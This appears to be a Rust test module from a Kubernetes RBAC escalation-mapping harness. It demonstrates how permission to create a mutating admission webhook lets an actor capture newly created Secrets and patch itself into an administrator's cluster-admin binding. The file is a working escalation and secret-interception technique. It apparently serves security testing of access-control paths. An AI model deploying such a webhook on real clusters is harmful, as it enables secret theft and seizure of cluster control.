//! A mutating webhook of one's own: it is sent what others write, and writes into it.

use std::fs;
use std::time::Duration;

use anyhow::ensure;
use serde_json::{Value, json};

use super::{Edge, Walker, Way};
use crate::harness::{Hook, Result, eventually};

pub(super) const EDGES: &[Edge] = &[Edge {
    id: "webhook",
    both: "cluster: {apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [get]}, {apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], resourceNames: [other], verbs: [patch]}",
    actor: "cluster: {apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [create]}",
    prey: "",
    way: Way::By(webhook),
    shows: "secret/",
    to: "cluster-admin",
}];

/// An administrator binds a role to somebody, and the actor is bound with them.
fn webhook(walker: &Walker<'_>) -> Result<String> {
    let hook = Hook::start(add_itself)?;
    let name = walker.fill("NS-ACCOUNT");
    let rule = |group: &str, resource: &str| json!({"apiGroups": [group], "apiVersions": ["*"], "operations": ["CREATE"], "resources": [resource]});
    let configuration = json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration", "metadata": {"name": name},
        "webhooks": [{
            "name": "taken.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": hook.client_config(), "matchPolicy": "Exact", "timeoutSeconds": 10, "failurePolicy": "Ignore",
            "rules": [rule("", "secrets"), rule("rbac.authorization.k8s.io", "clusterrolebindings")],
        }],
    });
    let file = walker.cluster.home().join("webhook.json");
    fs::write(file, configuration.to_string())?;
    if walker
        .decides("create -f webhook.json", "created")?
        .is_none()
    {
        return Ok(String::new());
    }
    let namespace = &walker.namespace;
    let mut at = 0;
    // A configuration that was just written is not yet called by every request.
    let secret = eventually("a Secret to be seen", Duration::from_secs(20), || {
        at += 1;
        let name = format!("prey-{at}");
        let create = [
            "create",
            "secret",
            "generic",
            &name,
            "-n",
            namespace,
            "--from-literal=word=caught",
        ];
        walker.cluster.admin(&create)?;
        let seen = hook.seen();
        Ok(seen.into_iter().find(|object| object["kind"] == "Secret"))
    })?;
    ensure!(secret["data"]["word"] == "Y2F1Z2h0", "{secret}");
    let create = [
        "create",
        "clusterrolebinding",
        "edge-webhook-bait",
        "--clusterrole=cluster-admin",
        "--user=somebody",
    ];
    walker.cluster.admin(&create)?;
    walker
        .cluster
        .admin(&["delete", "mutatingwebhookconfiguration", &name])?;
    walker.sure("get secrets -A -o name", "secret/")
}

/// One subject more in a binding.
fn add_itself(object: &Value) -> Value {
    if object["metadata"]["name"] != "edge-webhook-bait" {
        return Value::Null;
    }
    let subject =
        json!({"kind": "ServiceAccount", "name": "webhook-actor", "namespace": "edge-home"});
    json!([{"op": "add", "path": "/subjects/-", "value": subject}])
}
